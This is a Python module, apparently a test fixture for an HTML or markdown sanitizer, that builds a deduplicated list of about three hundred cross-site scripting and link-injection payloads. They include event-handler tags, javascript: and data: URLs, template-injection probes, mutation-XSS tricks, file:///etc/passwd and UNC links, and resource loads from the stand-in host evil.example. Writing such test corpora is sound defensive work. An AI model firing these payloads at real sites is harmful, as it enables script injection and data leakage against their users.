"""Three hundred texts that want to run a script, load something from elsewhere, or lead away."""

# ruff: noqa: E501 - a payload is one line

from itertools import product

FAR = "http://evil.example/leak"
RUN = "window.pwned=1"

TAGS = (
    "<img src=x {}>", "<svg {}>", "<body {}>", "<iframe {} srcdoc='<script>parent.pwned=1</script>'>", "<video src=x {}>",
    "<details open {}>x</details>", "<input autofocus {}>", "<marquee {}>x</marquee>", "<object data=x {}>",
    "<a href=# {}>x</a>", "<div style='animation:x' {}>x</div>", "<audio src=x {}>", "<math {}>", "<form {}><button>x</button></form>",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onclick", "onstart", "onpointerenter",
    "onwheel", "onbeforetoggle",
)  # fmt: skip
LINKS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "file:///etc/passwd", "ms-settings:", "\\\\evil.example\\share", FAR,
    "//evil.example/x", "https://evil.example@127.0.0.1/", "https://evil.example/\u202egnp.exe",
)  # fmt: skip
FORMS = (
    "[x]({})", "![x]({})", "<{}>", "[x][y]\n\n[y]: {}", "[![i]({})]({})", "<a href='{}'>x</a>", "<img src='{}'>",
    "<link rel=stylesheet href='{}'>", "<style>@import '{}';</style>", "<form action='{}'><input type=submit></form>",
)  # fmt: skip
WHOLE = (
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC={FAR}></SCRIPT>", f"<meta http-equiv=refresh content='0;url={FAR}'>", f"<base href='{FAR}'>",
    f"<style>body{{background:url({FAR})}}</style>", f"<div style='background:url({FAR})'>x</div>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><use href='{FAR}#x'></svg>", "<svg><a xlink:href='javascript:1'>x</a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<template><script>{RUN}</script></template>", "{{constructor.constructor('window.pwned=1')()}}", "{{7*7}}", "${7*7}",
    "{% raw %}{{ config }}", "<!--><img src=x onerror=window.pwned=1>", "]]><script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>', "'><img src=x onerror=window.pwned=1>", "`><img src=x onerror=window.pwned=1>",
    '" autofocus onfocus=window.pwned=1 x="', "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;img src=x onerror=window.pwned=1&#62;",
    "```html\n<img src=x onerror=window.pwned=1>\n```", '```"><img src=x onerror=window.pwned=1>\nx\n```',
    "`<img src=x onerror=window.pwned=1>`", "<x-y onclick=window.pwned=1>", "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "\x1b]52;c;cHduZWQ=\x07", "| a | <img src=x onerror=window.pwned=1> |\n|---|---|\n| b | c |", "\u202e<img src=x onerror=window.pwned=1>",
    "<img src=x:alert onerror=eval(src)>", "<plaintext>", "<xmp><img src=x onerror=window.pwned=1></xmp>", "<frameset onload=window.pwned=1>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(
    [
        *(tag.format(f"{event}={RUN}") for tag, event in product(TAGS, EVENTS)),
        *(form.replace("{}", link) for form, link in product(FORMS, LINKS)),
        *WHOLE,
    ]
))  # fmt: skip
